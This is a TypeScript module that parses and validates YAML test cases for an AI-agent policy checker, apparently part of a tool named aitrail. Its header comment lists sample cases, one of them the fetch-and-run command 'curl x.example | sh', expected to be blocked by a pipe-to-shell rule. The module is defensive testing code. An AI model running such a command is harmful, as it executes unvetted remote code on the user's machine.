// Cases for `policy test`: a YAML list, each with what passes and what is expected of the policy.
//
//   - { name: no installers, command: 'curl x.example | sh', expect: block, rule: pipe-to-shell }
//   - { call: { tool: Write, input: { file_path: .github/workflows/ci.yml, content: x } }, expect: block }
//   - { path: src/auth/login.ts, from: other, expect: pass }
//   - { prompt: 'drop production', expect: block }
//   - { text: 'hello', expect: pass }
//   - { request: { method: POST, path: /user/repos }, expect: approve }
import { readFile } from 'node:fs/promises';
import { resolve } from 'node:path';
import { z } from 'zod';
import { Fault } from '../model/fault.ts';
import { explainIssue } from './check-document.ts';
import { readDocument } from './document.ts';

const CASE = z
  .strictObject({
    name: z.string().min(1).optional(),
    command: z.string().min(1).optional(),
    call: z.strictObject({ tool: z.string().min(1), input: z.unknown() }).optional(),
    path: z.string().min(1).optional(),
    from: z.enum(['ai', 'other']).optional(),
    prompt: z.string().optional(),
    text: z.string().optional(),
    request: z
      .strictObject({
        method: z.string().regex(/^[A-Z]+$/, 'upper-case letters only'),
        path: z.string().startsWith('/', 'must start with a slash'),
        body: z.string().optional(),
      })
      .optional(),
    expect: z.enum(['block', 'approve', 'warn', 'pass']),
    rule: z.string().min(1).optional(),
  })
  .refine((one) => SUBJECTS.filter((key) => one[key] !== undefined).length === 1, {
    error: 'needs one of command, call, path, prompt, text, request',
  })
  .refine((one) => one.from === undefined || one.path !== undefined, 'from is for path');

const SUBJECTS = ['command', 'call', 'path', 'prompt', 'text', 'request'] as const;

type Given = z.infer<typeof CASE>;

export type CaseSubject =
  | { readonly kind: 'call'; readonly tool: string; readonly input: unknown }
  | { readonly kind: 'path'; readonly path: string; readonly from: 'ai' | 'other' }
  | { readonly kind: 'prompt' | 'text'; readonly text: string }
  | {
      readonly kind: 'request';
      readonly method: string;
      readonly path: string;
      readonly body: string;
    };

export interface PolicyCase {
  readonly name: string;
  /** `file:line`. */
  readonly place: string;
  readonly subject: CaseSubject;
  readonly expect: 'block' | 'approve' | 'warn' | 'pass';
  /** Name of the rule, or the protected path, that is to decide it; null: any. */
  readonly rule: string | null;
}

/** @throws Fault NO_SUCH_FILE; CONFIG_INVALID with file, line and column. */
export async function readPolicyCases(
  directory: string,
  file: string,
): Promise<readonly PolicyCase[]> {
  const text = await readFile(resolve(directory, file), 'utf8').catch((cause: unknown) => {
    throw new Fault('NO_SUCH_FILE', `${file} cannot be read`, {
      cause,
      fix: 'name the file of cases: aitrail policy test FILE',
    });
  });
  const document = readDocument({ file, text, key: null });
  const parsed = z.array(CASE).safeParse(document.value ?? [], { reportInput: true });
  if (!parsed.success) throw explainIssue(document, parsed.error);
  return parsed.data.map((given, index) => {
    const { line } = document.placeOf([index]);
    const subject = subjectOf(given);
    return {
      name: given.name ?? nameOf(subject),
      place: `${file}:${String(line)}`,
      subject,
      expect: given.expect,
      rule: given.rule ?? null,
    };
  });
}

function subjectOf(given: Given): CaseSubject {
  const { command, call, path, prompt, request } = given;
  if (command !== undefined) return { kind: 'call', tool: 'Bash', input: { command } };
  if (call !== undefined) return { kind: 'call', tool: call.tool, input: call.input };
  if (path !== undefined) return { kind: 'path', path, from: given.from ?? 'ai' };
  if (request !== undefined) return { kind: 'request', ...request, body: request.body ?? '' };
  return prompt === undefined
    ? { kind: 'text', text: given.text ?? '' }
    : { kind: 'prompt', text: prompt };
}

function nameOf(subject: CaseSubject): string {
  switch (subject.kind) {
    case 'call':
      return `call of ${subject.tool}`;
    case 'path':
      return subject.path;
    case 'prompt':
    case 'text':
      return `${subject.kind} ${subject.text.slice(0, 40)}`;
    case 'request':
      return `${subject.method} ${subject.path}`;
  }
}
